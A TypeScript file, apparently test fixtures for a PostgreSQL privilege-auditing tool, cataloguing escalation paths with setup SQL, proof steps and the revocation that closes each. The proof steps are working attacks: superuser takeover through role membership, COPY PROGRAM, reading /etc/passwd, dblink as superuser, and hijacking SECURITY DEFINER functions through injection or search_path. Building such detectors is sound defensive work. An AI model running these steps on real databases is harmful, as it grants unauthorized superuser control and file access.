/** Ways up in PostgreSQL, planted and gone: `$user` begins, `$boss` is a superuser, `$mid` and `$other` are ordinary. */
export interface Escalation {
  name: string
  /** Versions in which it is one. */
  since?: number
  until?: number
  setup: string[]
  /** The actions along the path that must be told. */
  steps: string[]
  /** Stands in what the path says of objects. */
  object: string
  /** What `$user` does to go it. */
  prove: string[]
  /** What a superuser does then, not knowing of it. */
  meanwhile?: string
  /** Asked of the superuser afterwards: one row, true. */
  proved?: string
  /** Taken away, it is no way any more. */
  lose: string[]
  ends?: string
  depends?: boolean
}

/** `folder` is the server's own. */
export const named = (text: string, { mark, folder }: { mark: string; folder: string }): string =>
  text.replaceAll(/\$(user|other|mid|boss|database|folder)(?![a-z])/g, (_, word: string) =>
    word === 'folder' ? folder : word === 'database' ? mark : `${mark}_${word}`,
  )

const IS_SUPER = `select rolsuper as proved from pg_roles where rolname = '$user'`
export const RISE = 'alter role $user superuser'
export const PROGRAM = `copy (select 1) to program 'cat > /dev/null'`
export const own = (body: string, more = '', language = 'plpgsql') =>
  `set role $boss; create function f(what text) returns text language ${language} security definer ${more} as $x$ ${body} $x$; reset role`

const FOR_ONE = ['revoke execute on function f(text) from public; grant execute on function f(text) to $user']

export const ESCALATIONS: Escalation[] = [
  {
    name: 'a member of a superuser takes its place',
    setup: ['grant $boss to $user'],
    steps: ['SET ROLE'],
    object: 'membership in $boss',
    prove: ['set role $boss', RISE],
    proved: IS_SUPER,
    lose: ['revoke $boss from $user'],
  },
  {
    name: 'by two memberships',
    setup: ['grant $boss to $mid', 'grant $mid to $user'],
    steps: ['SET ROLE', 'SET ROLE'],
    object: 'membership in $mid',
    prove: ['set role $mid', 'set role $boss', RISE],
    proved: IS_SUPER,
    lose: ['revoke $boss from $mid'],
  },
  {
    name: 'who may give a membership gives it to itself',
    since: 16,
    setup: ['grant pg_execute_server_program to $mid', 'grant $mid to $user with admin true, inherit false, set false'],
    steps: ['GRANT', 'SET ROLE', 'COPY … PROGRAM'],
    object: 'admin option on $mid',
    prove: ['grant $mid to $user with set true', 'set role $mid', PROGRAM],
    lose: ['revoke $mid from $user cascade'],
  },
  {
    name: 'the right to give a membership is inherited',
    since: 16,
    setup: [
      'create role $database_group',
      'grant pg_execute_server_program to $mid',
      'grant $mid to $database_group with admin true, inherit false, set false',
      'grant $database_group to $user with inherit true, set false',
    ],
    steps: ['GRANT', 'SET ROLE', 'COPY … PROGRAM'],
    object: 'admin option on $mid',
    prove: ['grant $mid to $user with set true', 'set role $mid', PROGRAM],
    lose: ['revoke $mid from $user granted by $database_group', 'grant $database_group to $user with inherit false'],
  },
  {
    name: 'whoever creates roles has all but superusers',
    until: 15,
    setup: ['alter role $user createrole', 'grant pg_execute_server_program to $mid'],
    steps: ['GRANT', 'SET ROLE', 'COPY … PROGRAM'],
    object: 'CREATEROLE, on role $mid',
    prove: ['grant $mid to $user', 'set role $mid', PROGRAM],
    lose: ['revoke $mid from $user', 'alter role $user nocreaterole'],
  },
  {
    name: 'programs of the server',
    setup: ['grant pg_execute_server_program to $user'],
    steps: ['COPY … PROGRAM'],
    object: 'pg_execute_server_program',
    prove: [PROGRAM],
    lose: ['revoke pg_execute_server_program from $user'],
  },
  {
    name: 'files of the server are written',
    setup: ['grant pg_write_server_files to $user'],
    steps: ['COPY … TO'],
    object: 'pg_write_server_files',
    depends: true,
    prove: [`copy (select 1) to '$folder/$database.written'`],
    proved: `select pg_read_file('$folder/$database.written') = E'1\\n' as proved`,
    lose: ['revoke pg_write_server_files from $user'],
  },
  {
    name: 'files of the server are read',
    setup: ['grant pg_read_server_files to $user', 'create table heard (line text); grant insert on heard to $user'],
    steps: ['COPY … FROM'],
    object: 'pg_read_server_files',
    depends: true,
    prove: [`copy heard from '/etc/passwd'`],
    proved: `select count(*) > 0 as proved from heard`,
    lose: ['revoke pg_read_server_files from $user'],
  },
  {
    name: 'a function that superusers keep to themselves was granted',
    setup: ['grant execute on function pg_catalog.lo_export(oid, text) to $user'],
    steps: ['EXECUTE'],
    object: 'lo_export',
    depends: true,
    prove: [`select lo_from_bytea(424242, 'written')`, `select lo_export(424242, '$folder/$database.exported')`],
    proved: `select pg_read_file('$folder/$database.exported') = 'written' as proved`,
    lose: ['revoke execute on function pg_catalog.lo_export(oid, text) from $user'],
  },
  {
    name: 'the server connects to itself as anybody',
    setup: [
      'create extension dblink',
      'grant execute on function dblink_connect_u(text, text) to $user',
      `create table address as select split_part(current_setting('unix_socket_directories'), ',', 1) as folder, current_setting('port') as port; grant select on address to $user`,
    ],
    steps: ['EXECUTE'],
    object: 'connecting as any role',
    depends: true,
    prove: [
      `select dblink_connect_u('me', 'host=' || folder || ' port=' || port || ' dbname=$database user=$boss') from address`,
      `select dblink_exec('me', 'alter role $user superuser')`,
    ],
    proved: IS_SUPER,
    lose: ['revoke execute on function dblink_connect_u(text, text) from $user'],
  },
  {
    name: 'a language that runs anything is marked as trusted',
    setup: [
      `update pg_language set lanpltrusted = true where lanname = 'internal'`,
      'grant usage on language internal to $user',
      'grant create on schema public to $user',
    ],
    steps: ['CREATE FUNCTION'],
    object: 'the language internal',
    prove: [
      `create function public.out(oid, text) returns int strict language internal as 'be_lo_export'`,
      `select lo_from_bytea(424243, 'by hand')`,
      `select public.out(424243, '$folder/$database.internal')`,
    ],
    proved: `select pg_read_file('$folder/$database.internal') = 'by hand' as proved`,
    lose: ['revoke create on schema public from $user'],
  },
  {
    name: 'an event trigger runs what its owner writes, as whoever sets it off',
    setup: [
      'create schema app authorization $user',
      'set role $user; create function app.seen() returns event_trigger language plpgsql as $x$ begin end $x$; reset role',
      'create event trigger $database_seen on ddl_command_end execute function app.seen()',
    ],
    steps: ['CREATE OR REPLACE FUNCTION'],
    object: 'event trigger $database_seen',
    depends: true,
    prove: [
      `create or replace function app.seen() returns event_trigger language plpgsql as $x$ begin if (select rolsuper from pg_roles where rolname = current_user) then alter role $user superuser; end if; end $x$`,
    ],
    meanwhile: 'create table public.anything ()',
    proved: IS_SUPER,
    lose: ['drop event trigger $database_seen'],
  },
  {
    name: 'a setting that names a program',
    setup: ['grant alter system on parameter archive_command to $user'],
    steps: ['ALTER SYSTEM'],
    object: 'archive_command',
    depends: true,
    prove: [`alter system set archive_command = 'true'`],
    proved: `select exists (select from pg_file_settings where name = 'archive_command' and setting = 'true') as proved`,
    lose: ['revoke alter system on parameter archive_command from $user'],
  },
  {
    name: 'a function runs its argument as its owner',
    setup: [own('begin execute what; return null; end', 'set search_path = pg_catalog, pg_temp'), ...FOR_ONE],
    steps: ['EXECUTE'],
    object: 'it runs what it is given',
    prove: [`select f('alter role $user superuser')`],
    proved: IS_SUPER,
    lose: ['revoke execute on function f(text) from $user'],
  },
  {
    name: 'a function puts an argument into the text it runs',
    setup: [
      own(`begin execute 'select ' || what; return null; end`, 'set search_path = pg_catalog, pg_temp'),
      'set role $boss; create function g() returns int language plpgsql security invoker as $x$ begin alter role $user superuser; return 1; end $x$; reset role',
      ...FOR_ONE,
    ],
    steps: ['EXECUTE'],
    object: 'it runs text that it puts together',
    depends: true,
    prove: [`select f('public.g()')`],
    proved: IS_SUPER,
    lose: ['revoke execute on function f(text) from $user'],
  },
  {
    name: 'a caller says where the names of a function are looked for',
    setup: [own('select upper(what)', '', 'sql'), 'create schema app authorization $user'],
    steps: ['CREATE', 'EXECUTE'],
    object: 'its caller says where its names are looked for',
    prove: [
      'create function app.upper(text) returns text language plpgsql as $x$ begin alter role $user superuser; return $1; end $x$',
      'grant usage on schema app to public',
      'set search_path = app, pg_catalog, public',
      `select public.f('x')`,
    ],
    proved: IS_SUPER,
    lose: ['alter function f(text) set search_path = pg_catalog, pg_temp'],
  },
  {
    name: 'the names of a function are looked for where its caller creates',
    setup: [
      'create schema app; create function public.shout(text) returns text language sql as $x$ select $1 $x$',
      own('select shout(what)', 'set search_path = app, public, pg_temp', 'sql'),
      'grant usage, create on schema app to $user',
    ],
    steps: ['CREATE', 'EXECUTE'],
    object: 'its names are looked for in app',
    depends: true,
    prove: [
      'create function app.shout(text) returns text language plpgsql as $x$ begin alter role $user superuser; return $1; end $x$',
      `select public.f('x')`,
    ],
    proved: IS_SUPER,
    lose: ['revoke create on schema app from $user'],
  },
  {
    name: 'the tables of a function are looked for among the temporary ones of its caller',
    setup: [
      'create table public.accounts (name text)',
      own('begin return (select name from accounts limit 1); end', 'set search_path = public'),
      'revoke temporary on database $database from public; grant temporary on database $database to $user',
    ],
    steps: ['CREATE TEMPORARY VIEW', 'EXECUTE'],
    object: 'temporary ones of its caller',
    prove: [
      'create function pg_temp.up() returns text language plpgsql as $x$ begin alter role $user superuser; return null; end $x$',
      'create temporary view accounts as select pg_temp.up() as name',
      `select public.f('x')`,
    ],
    proved: IS_SUPER,
    lose: ['revoke temporary on database $database from $user'],
  },
  {
    name: 'who inherits from a superuser writes its functions anew, though it may not take its place',
    since: 16,
    setup: [
      'grant $boss to $user with inherit true, set false',
      'create schema app; grant usage, create on schema app to $user',
      'set role $boss; create function app.one() returns int language sql as $x$ select 1 $x$; reset role',
    ],
    steps: ['CREATE OR REPLACE FUNCTION', 'EXECUTE'],
    object: 'app.one()',
    prove: [
      'create or replace function app.one() returns int language plpgsql security definer as $x$ begin alter role $user superuser; return 1; end $x$',
      'select app.one()',
    ],
    proved: IS_SUPER,
    lose: ['drop function app.one()'],
  },
  {
    name: 'inside a function of a role its password is set, and it is wholly taken',
    setup: [
      'grant $boss to $mid',
      'set role $mid; create function pg_temp.nothing() returns int language sql as $x$ select 1 $x$; reset role',
      'grant create on schema public to $mid; set role $mid; create function public.f(what text) returns text language plpgsql security definer set search_path = pg_catalog, pg_temp as $x$ begin execute what; return null; end $x$; reset role; revoke create on schema public from $mid',
      'revoke execute on function public.f(text) from public; grant execute on function public.f(text) to $user',
    ],
    steps: ['EXECUTE', 'ALTER ROLE … PASSWORD', 'SET ROLE'],
    object: 'role $mid',
    depends: true,
    prove: [`select public.f('alter role $mid password ''taken''')`],
    proved: `select rolpassword is not null as proved from pg_authid where rolname = '$mid'`,
    lose: ['revoke $boss from $mid'],
  },
  {
    name: 'a role that replicates has a copy of all',
    // The embedded server keeps no log that could be replicated.
    until: 15,
    setup: ['alter role $user replication'],
    steps: ['REPLICATION'],
    object: 'a copy of the whole server',
    ends: 'all that is stored',
    depends: true,
    prove: [`select pg_create_physical_replication_slot('$database')`, `select pg_drop_replication_slot('$database')`],
    lose: ['alter role $user noreplication'],
  },
  {
    name: 'a password for another server stands here',
    setup: [
      `create extension postgres_fdw; create server billing foreign data wrapper postgres_fdw options (host 'billing.example', dbname 'bills'); create user mapping for $user server billing options (user 'shop', password 'x')`,
      'grant usage on foreign server billing to $user',
    ],
    steps: ['USAGE'],
    object: 'user mapping of $user',
    ends: 'foreign server billing as shop',
    prove: [
      'create temporary table local (id int)',
      `create foreign table pg_temp.bills (id int) server billing options (table_name 'bills')`,
    ],
    lose: ['revoke usage on foreign server billing from $user'],
  },
]
